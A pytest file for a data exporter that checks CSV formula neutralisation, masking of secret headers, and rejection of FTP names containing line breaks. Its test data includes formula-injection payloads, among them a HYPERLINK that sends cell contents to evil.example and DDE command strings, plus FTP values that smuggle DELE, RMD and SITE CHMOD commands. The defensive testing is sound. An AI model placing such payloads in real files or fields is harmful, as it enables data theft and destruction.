"""Profile settings that matter for security (issue 9): spreadsheet formulas in CSV files
(point 9), Extra Headers as secrets (point 10), FTP names that would smuggle a command (point 12)."""
import csv
import io
import json
from datetime import datetime, time, timedelta, timezone

import pytest
from exporter_ftp import FtpType

from exporter.files import daily_files
from exporter.profiles import rules as profiles, as_code as profiles_io
from exporter import security
from exporter.export_types import neutralised
from exporter.extensions import db
from exporter.models import Attempt, Delivery, Profile

from .factories import event, make_profile
from .plugins.conftest import ftp_server  # noqa: F401 - a fixture

DAY = datetime.now(timezone.utc).date() - timedelta(days=2)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "=1+1", "\t=1", "\r=1"]
BEARER = "Bearer s3cr3t-t0ken-4242"


# --- 9. CSV formula injection ----------------------------------------------------------------

@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_are_neutralised(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize("value", ["-49.95", "+1", "1e3", "Jane", "", "a=b", "jane@example.com", "-"])
def test_plain_values_and_numbers_stay_as_they_are(value):
    assert neutralised(value) == (value if value != "-" else "'-")


def test_a_new_daily_file_profile_neutralises_formulas(logged_in):
    assert logged_in.post("/profiles/new", data={"name": "Daily", "export_type": "ftp"}).status_code == 302
    profile = db.session.scalar(db.select(Profile).where(Profile.name == "Daily"))
    assert profile.settings["neutralise_formulas"] is True


def test_formulas_are_neutralised_in_the_partners_file_and_the_admins_download(app, logged_in, post_events,
                                                                               ftp_server, run_jobs):
    profile = make_profile(name="Daily", export_type="ftp", settings=ftp_server.settings(),
                           mappings=[{"export_name": "=name", "field": "firstName"},
                                     {"export_name": "total", "field": "totalAmount"}])
    profile.created_at = datetime.combine(DAY, time(12))
    db.session.commit()
    post_events({"events": [event(f"e{i}", occurred_at=f"{DAY.isoformat()}T12:00:0{i}Z", firstName=value,
                                  totalAmount="-49.95") for i, value in enumerate(FORMULAS[:4])]})
    daily_files.tick(now=datetime.combine(DAY + timedelta(days=1), time(2), tzinfo=timezone.utc))
    run_jobs(until=lambda: db.session.scalar(db.select(Delivery.status)) == "delivered")
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows([["'=name", "total"]] + [["'" + v, "-49.95"] for v in FORMULAS[:4]])
    [sent] = ftp_server.files().values()
    assert sent.decode() == buf.getvalue()
    delivery = db.session.scalars(db.select(Delivery)).one()
    assert logged_in.get(f"/files/deliveries/{delivery.id}/download").get_data(as_text=True) == buf.getvalue()


def test_with_the_setting_off_the_partner_gets_values_as_they_are_but_the_download_is_still_safe(
        app, logged_in, post_events, ftp_server, run_jobs):
    profile = make_profile(name="Daily", export_type="ftp", settings=ftp_server.settings(neutralise_formulas=False),
                           mappings=[{"export_name": "name", "field": "firstName"}])
    profile.created_at = datetime.combine(DAY, time(12))
    db.session.commit()
    post_events(event(occurred_at=f"{DAY.isoformat()}T12:00:00Z", firstName="=1+1"))
    daily_files.tick(now=datetime.combine(DAY + timedelta(days=1), time(2), tzinfo=timezone.utc))
    run_jobs(until=lambda: db.session.scalar(db.select(Delivery.status)) == "delivered")
    assert list(ftp_server.files().values()) == [b"name\r\n=1+1\r\n"]
    delivery = db.session.scalars(db.select(Delivery)).one()
    assert logged_in.get(f"/files/deliveries/{delivery.id}/download").get_data(as_text=True) == "name\r\n'=1+1\r\n"


# --- 10. Extra Headers are secrets ---------------------------------------------------------------

def test_extra_headers_are_encrypted_masked_and_never_exported_in_clear(app, logged_in, receiver, run_jobs,
                                                                         post_events):
    profile = make_profile(url=receiver.url + "/p", settings={"url": receiver.url + "/p", "method": "GET",
                                                              "headers": f"Authorization: {BEARER}\nX-Partner: acme"})
    assert profile.settings["headers"].startswith(security.ENCRYPTED_PREFIX)
    assert "s3cr3t" not in logged_in.get(f"/profiles/{profile.id}").get_data(as_text=True)
    exported = logged_in.get("/profiles/export.json").get_data(as_text=True)
    assert "s3cr3t" not in exported and "acme" not in exported
    assert json.loads(exported)["profiles"][0]["settings"]["headers"] == security.MASK
    # Importing the export back keeps the stored headers.
    profiles_io.import_all(json.loads(exported))
    db.session.expire_all()
    assert security.decrypt("test-secret", db.session.get(Profile, profile.id).settings["headers"]) == \
        f"Authorization: {BEARER}\nX-Partner: acme"
    post_events(event())
    run_jobs(until=lambda: db.session.scalar(db.select(Delivery.status)) == "delivered")
    assert receiver.requests[0].headers["Authorization"] == BEARER
    attempt = db.session.scalars(db.select(Attempt)).one()
    assert attempt.request_headers["Authorization"] == "****" and attempt.request_headers["X-Partner"] == "****"


def test_saving_the_form_with_blank_extra_headers_keeps_them(app, logged_in, receiver):
    profile = make_profile(settings={"url": "https://example.com/p", "method": "GET", "headers": "X-Key: k1"})
    response = logged_in.post(f"/profiles/{profile.id}", data={
        "name": profile.name, "export_type": "postback", "delay_minutes": "0", "active": "y",
        "settings-url": "https://example.com/p", "settings-method": "GET", "settings-headers": ""})
    assert response.status_code == 302
    db.session.expire_all()
    assert security.decrypt("test-secret", db.session.get(Profile, profile.id).settings["headers"]) == "X-Key: k1"


# --- 12. no second FTP command in a name ----------------------------------------------------------

@pytest.mark.parametrize("setting, value", [
    ("file_name", "x.csv\r\nDELE important.csv"), ("file_name", "x\n.csv"), ("file_name", "x\x00.csv"),
    ("directory", "/in\r\nRMD /"), ("username", "u\r\nSITE CHMOD 777 /"), ("host", "ftp.example.com\x00")])
def test_ftp_names_with_cr_lf_or_nul_are_refused_at_save(setting, value):
    settings = {"protocol": "ftp", "host": "ftp.example.com", "username": "u", setting: value}
    errors = profiles.check_settings(FtpType, settings)
    assert setting in errors and ("line break" in errors[setting] or "name or address" in errors[setting])
